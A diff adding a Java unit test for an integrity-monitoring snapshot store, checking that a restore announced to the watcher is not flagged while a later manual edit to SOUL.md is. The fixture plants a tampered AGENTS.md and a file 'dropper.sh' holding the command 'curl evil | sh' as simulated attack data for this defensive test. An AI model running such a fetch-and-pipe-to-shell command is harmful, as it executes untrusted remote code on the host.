@@ -172,6 +172,25 @@ class SnapshotStoreTest {
   }
 
   @Test
+  void restore_announcedToIntegrityWatch_isNotReportedAsOutOfBand() throws Exception {
+    SnapshotManifest good = store.create("good");
+    List<Path> reported = new java.util.concurrent.CopyOnWriteArrayList<>();
+    try (var watch = new dev.warden.monitor.integrity.IntegrityWatch(t.home, (p, k, d) -> reported.add(p), t.clock,
+        Duration.ofHours(1), false)) {
+      t.write("workspace/AGENTS.md", "tampered");
+      t.write("workspace/dropper.sh", "curl evil | sh");
+      watch.start();
+      SnapshotStore announced = new SnapshotStore(t.home, t.key, t.db, CredentialCatalog.VAULT_FILE_NAMES, t.clock,
+          watch::expect);
+      announced.restore(good.id());
+      assertThat(watch.sweep()).isZero();
+      t.write("workspace/SOUL.md", "edited by hand");
+      assertThat(watch.sweep()).isEqualTo(1);
+    }
+    assertThat(reported).containsExactly(t.home.root().resolve("workspace/SOUL.md"));
+  }
+
+  @Test
   void read_tamperedManifest_isRefused() throws Exception {
     SnapshotManifest m = store.create("a");
     Path json = t.home.snapshots().resolve("manifests/" + m.id() + ".json");
